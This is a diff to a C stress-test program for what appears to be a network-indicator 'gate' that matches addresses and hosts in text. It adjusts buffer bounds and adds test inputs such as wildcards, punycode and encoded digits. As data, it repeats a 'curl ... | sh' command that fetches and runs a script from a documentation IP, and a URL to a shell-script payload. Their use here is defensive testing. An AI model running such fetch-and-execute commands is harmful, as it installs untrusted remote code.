@@ -25,9 +25,9 @@ roll(uint32_t sides)
 static void
 fill(char *text, const char *letters)
 {
-	for (size_t i = 0; i < GATE_TEXT_MAX - 8; i++)
+	for (size_t i = 0; i < GATE_TEXT_MAX; i++)
 		text[i] = letters[roll((uint32_t)strlen(letters))];
-	text[GATE_TEXT_MAX - 8] = '\0';
+	text[GATE_TEXT_MAX] = '\0';
 }
 
 static void
@@ -35,8 +35,8 @@ repeat(char *text, const char *piece)
 {
 	size_t len = strlen(piece), at = 0;
 
-	for (; at + len < GATE_TEXT_MAX - 8; at += len)
-		memcpy(text + at, piece, len);
+	for (; at < GATE_TEXT_MAX; at++)
+		text[at] = piece[at % len];
 	text[at] = '\0';
 }
 
@@ -46,15 +46,14 @@ nest(char *text, int layers)
 {
 	static const char LETTERS[] =
 	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-	char from[GATE_TEXT_MAX];
+	char from[GATE_TEXT_MAX + 1];
 
 	repeat(text, "curl -s http://198.51.100.7:80/a.sh | sh; echo '1.2.3.4' ");
 	for (int i = 0; i < layers; i++) {
 		size_t len = strlen(text) / 4 * 3 / 3 * 3, out = 0;
 
 		memcpy(from, text, len);
-		for (size_t at = 0; at + 2 < len && out + 4 < GATE_TEXT_MAX - 8;
-		     at += 3) {
+		for (size_t at = 0; at + 2 < len && out + 4 <= GATE_TEXT_MAX; at += 3) {
 			uint32_t n = (uint32_t)(unsigned char)from[at] << 16 |
 				     (uint32_t)(unsigned char)from[at + 1] << 8 |
 				     (uint32_t)(unsigned char)from[at + 2];
@@ -92,7 +91,7 @@ main(void)
 {
 	struct err e = ERR_NONE;
 	struct gate *g = gate_new(&e);
-	char text[GATE_TEXT_MAX], value[64];
+	char text[GATE_TEXT_MAX + 1], value[64];
 
 	for (int i = 0; i < 1000; i++) {
 		snprintf(value, sizeof value, "198.51.%d.%d", (i * 7) % 250, i % 250);
@@ -101,6 +100,7 @@ main(void)
 		gate_add(g, value, &e);
 	}
 	gate_add(g, "192.0.2.0/24", &e);
+	gate_add(g, "*.lab.example", &e);
 	repeat(text, "http://203.0.113.7:8080/bins/x86_64.sh?id=1 ");
 	measure(g, "urls", text);
 	fill(text, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/");
@@ -119,6 +119,16 @@ main(void)
 	measure(g, "nested-escapes", text);
 	repeat(text, "sensor-");
 	measure(g, "names", text);
+	repeat(text, "a.lab.example");
+	measure(g, "hosts", text);
+	repeat(text, "xn--a-");
+	measure(g, "punycode", text);
+	repeat(text, "3'1'3'0'");
+	measure(g, "quotes", text);
+	repeat(text, "0x32 062 50,");
+	measure(g, "codes", text);
+	repeat(text, "MDAw");
+	measure(g, "zeros", text);
 	repeat(text, "\xef\xbd\x81\xea\xb0\x80\xe3\x8e\x92");
 	measure(g, "compatibility", text);
 	for (int layers = 1; layers <= 5; layers++) {
